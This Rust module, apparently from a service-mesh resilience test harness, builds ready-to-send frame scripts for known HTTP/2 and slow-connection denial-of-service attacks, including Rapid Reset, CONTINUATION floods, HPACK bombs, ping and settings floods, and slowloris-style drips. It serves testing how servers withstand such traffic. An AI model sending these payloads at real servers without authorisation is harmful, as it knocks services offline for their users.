//! What a hostile program in a pod sends: the attacks on HTTP/2 that are known, as frames, and slow or many connections.
//!
//! In: the name of an attack. Out: its [`Script`], made once before anything is measured, so that sending it costs the
//! attacker little more than the system's calls. Never sends: `mesh-test-pod attack` does.

pub mod frames;

use std::time::Duration;

use clap::ValueEnum;

use self::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, Method, NEWEST, PING, PREFACE,
    PRIORITY, RESET, SETTINGS, WINDOW_UPDATE, frame, head, literal, setting,
};

/// Streams of one connection in the attacks that use streams up.
const STREAMS: u32 = 20_000;
/// Requests at a time where the attacker waits for something: below what a connection may have open.
const AT_ONCE: u32 = 100;
/// A piece that is sent again and again.
const PIECE: usize = 64 << 10;
/// RFC 9113 section 7.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// What is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// No attack: a thread of the attacker's pod computes and sends nothing
    Burn,
    /// No attack: ordinary requests, a hundred at a time, as fast as they are answered
    Requests,
    /// HEADERS and RST_STREAM at once (CVE-2023-44487)
    RapidReset,
    /// The same once the requests were read: what was begun for them is for nothing
    LateReset,
    /// Frames that make the server reset its streams (CVE-2025-8671)
    MadeYouReset,
    /// A head without end (RUSTSEC-2024-0332)
    Continuation,
    /// Resets that are owed to who does not read (RUSTSEC-2024-0003)
    ErrorResetQueue,
    /// DATA without data (RUSTSEC-2026-0258)
    EmptyData,
    /// One field of 4 kB, named 16,000 times in each request
    HpackBomb,
    /// Hundreds of cookie fields in each request (CVE-2026-47774)
    CookieCrumbs,
    /// SETTINGS without end (CVE-2019-9515)
    SettingsFlood,
    /// PING without end (CVE-2019-9512)
    PingFlood,
    /// PRIORITY without end (CVE-2019-9513)
    PriorityFlood,
    /// WINDOW_UPDATE without end
    WindowUpdateFlood,
    /// Answers that are never taken (CVE-2019-9517)
    ZeroWindow,
    /// Trailers of 10,000 fields
    ManyTrailers,
    /// Trailers that frame a message
    ForbiddenTrailers,
    /// The last stream id, and another request after it
    StreamIds,
    /// GOAWAY in the middle of a request
    GoawayInRequest,
    /// Heads of HTTP/1.1 of which a byte comes each second
    SlowHeads,
    /// Bodies over HTTP/2 of which a byte comes each second
    SlowBodies,
    /// As many connections as can be had, which say nothing
    ManyConnections,
}

/// One thing that is done on a connection.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Step {
    /// These bytes are sent.
    Send(Vec<u8>),
    /// So many PINGs more are answered: what was sent before them has been read.
    Acks(u64),
    /// So many streams more have ended or were reset.
    Ends(u64),
}

/// What happens on each connection of an attack.
#[derive(Clone, Debug, Default)]
pub struct Script {
    /// Once.
    pub begin: Vec<u8>,
    /// After it.
    pub steps: Vec<Step>,
    /// The steps begin again; else another connection does.
    pub repeats: bool,
    /// Connections that are open at a time.
    pub parallel: usize,
    /// Nothing of what comes is read.
    pub is_deaf: bool,
    /// After the steps these bytes go out one by one, and then begin again.
    pub drip: Option<(Vec<u8>, Duration)>,
    /// After the steps the connection is kept until the other side ends it.
    pub stays: bool,
}

impl Attack {
    /// Every one of them, in the order of a table.
    pub fn all() -> &'static [Self] {
        Self::value_variants()
    }

    /// The name that the command line knows.
    ///
    /// # Panics
    /// Never: no variant is hidden.
    pub fn name(self) -> String {
        self.to_possible_value().expect("every attack has a name").get_name().to_owned()
    }

    /// What is sent; nothing for the one that only computes.
    pub fn script(self) -> Option<Script> {
        Some(match self {
            Self::Burn => return None,
            Self::Requests => waits(|stream| get(stream, END_HEADERS | END_STREAM), |_| Vec::new()),
            Self::LateReset => waits(|stream| get(stream, END_HEADERS | END_STREAM), reset),
            Self::RapidReset => {
                streams(|stream| [get(stream, END_HEADERS | END_STREAM), reset(stream)].concat())
            }
            Self::MadeYouReset => streams(overflow),
            Self::ErrorResetQueue => Script { is_deaf: true, ..streams(overflow) },
            Self::Continuation => continuation(),
            Self::EmptyData => repeated(&post(1), &frame(DATA, 0, 1, &[])),
            Self::HpackBomb => bombs(&literal(b"x", &[b'v'; 4_000], true), 16_000, 400),
            Self::CookieCrumbs => bombs(&literal(b"cookie", b"a", true), 700, 5_000),
            Self::SettingsFlood => repeated(&[], &frame(SETTINGS, 0, 0, &[])),
            Self::PingFlood => repeated(&[], &frame(PING, 0, 0, &[7; 8])),
            Self::PriorityFlood => repeated(&post(1), &frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 7])),
            Self::WindowUpdateFlood => repeated(&post(1), &frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])),
            Self::ZeroWindow => zero_window(),
            Self::ManyTrailers => trailers(&literal(b"x-trailer", b"a", true), &[NEWEST; 10_000], 400),
            Self::ForbiddenTrailers => trailers(
                &[literal(b"content-length", b"9", false), literal(b"host", b"another", false)].concat(),
                &[],
                STREAMS,
            ),
            Self::StreamIds => {
                once([get(0x7fff_ffff, END_HEADERS | END_STREAM), get(1, END_HEADERS)].concat())
            }
            Self::GoawayInRequest => once([post(1), frame(GOAWAY, 0, 0, &[0; 8])].concat()),
            Self::SlowHeads => slow_heads(),
            Self::SlowBodies => slow_bodies(),
            Self::ManyConnections => Script { parallel: 2_000, stays: true, ..Script::default() },
        })
    }

    /// Whether it is about HTTP/1.1.
    pub fn is_http1(self) -> bool {
        self == Self::SlowHeads
    }
}

fn preface() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(SETTINGS, ACK, 0, &[])].concat()
}

fn get(stream: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags, stream, &head(Method::Get))
}

/// A request whose body follows.
fn post(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &head(Method::Post))
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RESET, 0, stream, &CANCEL)
}

/// A request whose window overflows: an error of its stream (RFC 9113 section 6.9.1).
fn overflow(stream: u32) -> Vec<u8> {
    [post(stream), frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat()
}

fn over(steps: Vec<Step>) -> Script {
    Script { begin: preface(), steps, parallel: 1, ..Script::default() }
}

/// The same for each stream of a connection, as fast as it is taken.
fn streams(each: impl Fn(u32) -> Vec<u8>) -> Script {
    let bytes = (0..STREAMS).flat_map(|number| each(number * 2 + 1)).collect();
    Script { stays: true, ..over(vec![Step::Send(bytes)]) }
}

/// Requests at once; what is sent after them goes out when they were read, else all are waited for.
fn waits(first: impl Fn(u32) -> Vec<u8>, then: impl Fn(u32) -> Vec<u8>) -> Script {
    let mut steps = Vec::new();
    for batch in 0..STREAMS / AT_ONCE {
        let ids = || (batch * AT_ONCE..(batch + 1) * AT_ONCE).map(|number| number * 2 + 1);
        let after: Vec<u8> = ids().flat_map(&then).collect();
        let mut before: Vec<u8> = ids().flat_map(&first).collect();
        if after.is_empty() {
            steps.extend([Step::Send(before), Step::Ends(AT_ONCE.into())]);
            continue;
        }
        before.extend(frame(PING, 0, 0, &[1; 8]));
        steps.extend([Step::Send(before), Step::Acks(1), Step::Send(after)]);
    }
    over(steps)
}

/// One frame without end.
fn repeated(begin: &[u8], each: &[u8]) -> Script {
    let piece = each.repeat(PIECE / each.len());
    Script { begin: [&preface(), begin].concat(), repeats: true, ..over(vec![Step::Send(piece)]) }
}

/// One request on each connection.
fn once(bytes: Vec<u8>) -> Script {
    Script { stays: true, ..over(vec![Step::Send(bytes)]) }
}

fn continuation() -> Script {
    let field = literal(b"x", &[b'v'; 1_000], false);
    let begin = frame(HEADERS, 0, 1, &head(Method::Get));
    repeated(&begin, &frame(CONTINUATION, 0, 1, &field))
}

/// Requests that name one field of the dynamic table many times.
fn bombs(field: &[u8], times: usize, requests: u32) -> Script {
    let first = frame(HEADERS, END_HEADERS | END_STREAM, 1, &[&head(Method::Get), field].concat());
    let block = [head(Method::Get), vec![NEWEST; times]].concat();
    let bytes = (1..=requests)
        .flat_map(|number| frame(HEADERS, END_HEADERS | END_STREAM, number * 2 + 1, &block))
        .collect();
    Script {
        begin: [preface(), first].concat(),
        ..over(vec![Step::Send(bytes), Step::Ends(requests.into())])
    }
}

/// Requests that end in these trailers.
fn trailers(first: &[u8], rest: &[u8], requests: u32) -> Script {
    let block = [first, rest].concat();
    let bytes = (0..requests)
        .flat_map(|number| {
            let stream = number * 2 + 1;
            [post(stream), frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)].concat()
        })
        .collect();
    over(vec![Step::Send(bytes), Step::Ends(requests.into())])
}

/// A hundred streams with 16 KB each, whose echo is never taken.
fn zero_window() -> Script {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    // In turn, and no more than the connection's first window (RFC 9113 section 6.9.2) for all of them.
    let bytes = (0..AT_ONCE)
        .flat_map(|number| {
            let stream = number * 2 + 1;
            [post(stream), frame(DATA, END_STREAM, stream, &[b'x'; 600])].concat()
        })
        .collect();
    let begin = [PREFACE, &setting(INITIAL_WINDOW_SIZE, 0)].concat();
    Script { begin, stays: true, parallel: 8, ..over(vec![Step::Send(bytes)]) }
}

fn slow_heads() -> Script {
    let begin = b"GET / HTTP/1.1\r\nhost: server.shop\r\nx-slow: ".to_vec();
    Script { begin, parallel: 500, drip: Some((b"a".to_vec(), Duration::from_secs(1))), ..Script::default() }
}

fn slow_bodies() -> Script {
    let bytes = (0..AT_ONCE).flat_map(|number| post(number * 2 + 1)).collect();
    let drip = frame(DATA, 0, 1, b"x");
    Script { parallel: 8, drip: Some((drip, Duration::from_millis(100))), ..over(vec![Step::Send(bytes)]) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_attack_but_the_one_that_computes_says_something() {
        for attack in Attack::all() {
            let script = attack.script();
            assert_eq!(script.is_none(), *attack == Attack::Burn, "{}", attack.name());
            assert!(script.is_none_or(|script| script.parallel > 0), "{}", attack.name());
        }
    }
}
